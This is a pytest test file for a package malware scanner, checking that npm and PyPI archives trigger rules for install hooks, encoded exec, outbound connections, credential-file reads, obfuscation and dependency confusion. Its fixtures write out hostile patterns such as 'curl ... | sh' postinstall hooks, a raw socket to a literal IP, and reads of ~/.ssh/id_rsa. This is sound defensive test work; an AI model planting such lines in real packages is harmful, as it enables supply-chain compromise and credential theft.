"""Each phase has detections in each ecosystem it applies to."""

import json

import pytest

from scans.engine import scan_archive

from .conftest import make_tgz, make_zip, rule_names

NPM_PKG = json.dumps({"name": "some-lib", "version": "1.0.0"})

CASES = [
    # (id, phase, ecosystem, files, expected rule name or engine id)
    ("npm-install-hook", 1, "npm",
     {"package.json": json.dumps({"name": "x", "version": "1.0.0", "scripts": {"postinstall": "curl -s https://x.example/i.sh | sh"}})},
     "npm_lifecycle_shell_download"),
    ("pypi-install-hook", 1, "pypi",
     {"setup.py": "from setuptools.command.install import install\nclass Hook(install):\n    def run(self):\n        pass\n"},
     "setup_install_command_override"),
    ("npm-code", 2, "npm", {"package.json": NPM_PKG, "index.js": "eval(atob('Y29uc29sZS5sb2coMSk='));\n"}, "js_eval_decoded"),
    ("pypi-code", 2, "pypi", {"m/__init__.py": "import marshal\nexec(marshal.loads(blob))\n"}, "py_exec_marshal"),
    ("generic-code", 2, "pypi", {"install.sh": "curl -fsSL https://get.example.net/x | bash\n"}, "shell_download_pipe"),
    ("npm-network", 3, "npm", {"package.json": NPM_PKG, "index.js": "fetch('https://discord.com/api/webhooks/1/abc', {method:'POST'})\n"}, "discord_webhook"),
    ("pypi-network", 3, "pypi", {"m/x.py": "import socket\ns=socket.socket()\ns.connect(('45.77.10.20', 4444))\n"}, "socket_connect_literal_ip"),
    ("npm-credentials", 4, "npm", {"package.json": NPM_PKG, "index.js": "const t = fs.readFileSync(path.join(os.homedir(), '.npmrc'))\n"}, "cloud_credentials_files"),
    ("pypi-credentials", 4, "pypi", {"m/x.py": "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"}, "ssh_private_keys"),
    ("npm-obfuscation", 5, "npm", {"package.json": NPM_PKG, "index.js": "var _0x4f2a=['log'];console[_0x1b2c(0x0)]('x');\n"}, "js_obfuscator_io"),
    ("pypi-obfuscation", 5, "pypi", {"m/x.py": "code = zlib.decompress(base64.b64decode(blob))\n"}, "decompress_b64"),
    ("generic-obfuscation", 5, "npm", {"package.json": NPM_PKG, "a.js": "const isAdmin = false; /* \u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */\n"}, "bidi_or_invisible_identifiers"),
    ("npm-provenance", 6, "npm", {"package.json": json.dumps({"name": "x", "version": "99.0.1"})}, "dependency_confusion_version"),
    ("pypi-provenance", 6, "pypi", {"setup.py": "from setuptools import setup\nsetup(name='x', version='1000.0.0')\n"}, "dependency_confusion_version"),
]


@pytest.mark.parametrize("case", CASES, ids=[c[0] for c in CASES])
def test_phase_detection(rules, case):
    _id, phase, eco, files, expected = case
    result = scan_archive(make_tgz(files), rules, filename="p.tgz", ecosystem=eco)
    hits = [f for f in result.findings if rule_names([f]) == {expected} or f.rule_id == expected]
    assert hits, [f.message for f in result.findings]
    assert all(f.phase == phase for f in hits)
    assert result.phase(phase).score > 0
    assert any(s.startswith(f"{hits[0].title} [{hits[0].rule_id}] in ") for s in result.phase(phase).findings)


def test_binary_and_hidden_files_are_provenance(rules):
    elf = b"\x7fELF\x02\x01\x01" + b"\0" * 200
    result = scan_archive(make_tgz({"package.json": NPM_PKG, "bin/helper": elf, ".hidden_loader.js": "module.exports=1\n"}),
                          rules, filename="p.tgz", ecosystem="npm")
    ids = result.rule_ids()
    assert "eng_executable" in ids and "eng_hidden_file" in ids
    assert result.phase(6).score > 0


def test_pth_startup_hook_in_wheel_is_install_time(rules):
    pth = "import os, base64; exec(base64.b64decode('cHJpbnQoMSk='))\n"
    result = scan_archive(make_zip({"evil_init.pth": pth, "pkg/__init__.py": ""}), rules, filename="pkg-1.0-py3-none-any.whl")
    assert "pth_executes_code" in rule_names(result.findings)
    assert result.phase(1).score > 0
